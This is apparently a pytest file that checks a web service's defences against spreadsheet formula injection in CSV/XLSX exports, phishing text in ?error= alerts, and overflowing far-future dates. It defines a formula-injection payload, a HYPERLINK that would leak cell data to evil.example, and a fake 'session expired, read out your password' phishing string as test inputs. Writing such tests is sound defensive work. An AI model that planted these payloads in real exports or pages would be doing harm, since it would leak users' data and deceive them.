"""Findings of an attacker's probe, each kept found: spreadsheet formulas in exports, free
text in ``?error=`` alerts, and dates far enough out to overflow the arithmetic."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import UTC, datetime, timedelta

import httpx
import polars as pl
import pytest

from service.kernel.exports import export_bytes, neutralise
from service.kernel.models import Role
from tests.helpers import csrf, login, make_account, make_token
from tests.service.test_hostile_input import assert_problem
from tests.surveys.conftest import GOOD_ANSWERS, make_city

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
PHISHING = "Your session expired. Call 400-000-0000 and read out your password"
RESPONSES = "/api/v1/surveys/merchant/responses"


def _sheet_xml(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def test_the_neutraliser_quotes_formula_text_and_leaves_numbers() -> None:
    frame = pl.DataFrame(
        {
            "text": [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "fine", "-3.5", None],
            "number": [-1, 0, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    out = neutralise(frame)
    assert out["text"].to_list() == [
        "'" + PAYLOAD,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "fine",
        "-3.5",
        None,
    ]
    assert out["number"].to_list() == frame["number"].to_list()
    # As an audit log's columns, under their machine names.
    audit = frame.rename({"text": "subject", "number": "id"})
    xlsx = export_bytes(audit, "xlsx", "audit", "machine")
    assert "<f>" not in _sheet_xml(xlsx)
    back = pl.read_excel(io.BytesIO(xlsx))
    assert back["subject"][0] == "'" + PAYLOAD
    assert back["id"][0] == -1  # still a number
    text = export_bytes(audit, "csv", "audit", "machine").decode("utf-8-sig")
    assert next(csv.DictReader(io.StringIO(text)))["subject"] == "'" + PAYLOAD


async def _commented(client: httpx.AsyncClient) -> None:
    city = await make_city()
    r = await client.post(
        RESPONSES,
        json={
            "target": city.merchant,
            "answers": {**GOOD_ANSWERS, "quality": 2, "comment": PAYLOAD},
            "client_submission_id": str(uuid.uuid4()),
            "started_at": (datetime.now(UTC) - timedelta(seconds=40)).isoformat(),
        },
    )
    assert r.status_code == 201, r.text
    client.headers["authorization"] = f"Bearer {await make_token(Role.OFFICIAL)}"


async def test_a_formula_comment_stays_text_in_the_responses_exports(
    client: httpx.AsyncClient,
) -> None:
    await _commented(client)
    xlsx = await client.get(RESPONSES, params={"format": "xlsx", "headers": "machine"})
    assert xlsx.status_code == 200
    assert "<f>" not in _sheet_xml(xlsx.content)
    book = pl.read_excel(io.BytesIO(xlsx.content))
    assert book["comment"].to_list() == ["'" + PAYLOAD]
    assert book["quality"].dtype.is_numeric()
    r = await client.get(RESPONSES, params={"format": "csv", "headers": "machine"})
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0]["comment"] == "'" + PAYLOAD
    assert rows[0]["quality"] in ("2", "2.0")


async def test_a_formula_in_the_audit_log_stays_text_in_its_exports(
    client: httpx.AsyncClient,
) -> None:
    from tortoise import connections

    from service.kernel import audit

    await audit.record(connections.get("default"), PAYLOAD, "probe.formula", PAYLOAD, {})
    await make_account("probe-official", Role.OFFICIAL)
    assert await login(client, "probe-official") == 303
    xlsx = await client.get("/official/audit", params={"format": "xlsx", "headers": "machine"})
    assert xlsx.status_code == 200, xlsx.text[:300]
    assert "<f>" not in _sheet_xml(xlsx.content)
    book = pl.read_excel(io.BytesIO(xlsx.content))
    assert book.filter(pl.col("action") == "probe.formula")["subject"].to_list() == ["'" + PAYLOAD]
    r = await client.get("/official/audit", params={"format": "csv", "headers": "machine"})
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [x["subject"] for x in rows if x["action"] == "probe.formula"] == ["'" + PAYLOAD]


@pytest.mark.parametrize(
    "path",
    [
        "/official/flags",
        "/official/appeals",
        "/official/certificates/eligibility?kind=merchant",
    ],
)
async def test_free_text_in_error_is_never_shown(client: httpx.AsyncClient, path: str) -> None:
    await make_account("probe-official", Role.OFFICIAL)
    assert await login(client, "probe-official") == 303
    sep = "&" if "?" in path else "?"
    r = await client.get(f"{path}{sep}error={PHISHING}")
    assert r.status_code == 200, r.text[:300]
    # The language links echo the query, URL-encoded: only shown text counts.
    assert PHISHING not in r.text and 'role="alert"' not in r.text
    r = await client.get(f"{path}{sep}error=none")
    assert r.status_code == 200


async def test_a_known_code_shows_its_message_and_the_details_from_the_session(
    client: httpx.AsyncClient,
) -> None:
    await make_account("probe-official", Role.OFFICIAL)
    assert await login(client, "probe-official") == 303
    token = await csrf(client)
    r = await client.post(
        "/official/certificates/issue",
        data={"kind": "merchant", "subject": "91330100716105852F", "_csrf_token": token},
        follow_redirects=False,
    )
    assert r.status_code == 303
    location = r.headers["location"]
    assert location.endswith("error=not_issued"), location
    page = await client.get(location)
    assert "Nothing was issued." in page.text or "未签发任何证书" in page.text
    assert "91330100716105852F" in page.text  # the failed subject, carried server-side
    again = await client.get(location)
    assert "91330100716105852F" not in again.text.split('role="alert"', 1)[-1][:600]


FAR = (
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "1999-12-31T23:59:59+08:00",
    "2101-01-01T00:00:00+00:00",
)


@pytest.mark.parametrize("moment", FAR)
async def test_far_dates_in_feeds_are_422_naming_the_field(
    client: httpx.AsyncClient, moment: str
) -> None:
    city = await make_city()
    client.headers["authorization"] = f"Bearer {await make_token(Role.FEED)}"
    complaint = {
        "external_id": "C-1",
        "uscc": city.merchant,
        "received_at": moment,
        "status": "received",
        "category": "quality",
    }
    r = await client.post("/api/v1/complaints", json={"complaints": [complaint]})
    assert_problem(r, 422)
    assert any("received_at" in e["field"] for e in r.json()["errors"]), r.text
    event = {
        "uscc": city.merchant,
        "kind": "commendation",
        "occurred_at": moment,
        "source": "probe",
        "external_ref": "E-1",
    }
    r = await client.post("/api/v1/credit/events", json={"events": [event]})
    assert_problem(r, 422)
    assert any("occurred_at" in e["field"] for e in r.json()["errors"]), r.text


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/official/audit?until=9999-12-31", "until"),
        ("/official/audit?since=0001-01-01", "since"),
        ("/api/v1/complaints/figures?until=9999-12-31T23:59:59-14:00", "until"),
        ("/api/v1/surveys/merchant/responses?since=0001-01-01T00:00:00%2B14:00", "since"),
    ],
)
async def test_far_dates_in_queries_are_422(
    client: httpx.AsyncClient, url: str, field: str
) -> None:
    await make_city()
    await make_account("probe-official", Role.OFFICIAL)
    assert await login(client, "probe-official") == 303
    r = await client.get(url)
    assert r.status_code == 422, (r.status_code, r.text[:300])
    assert field in r.text
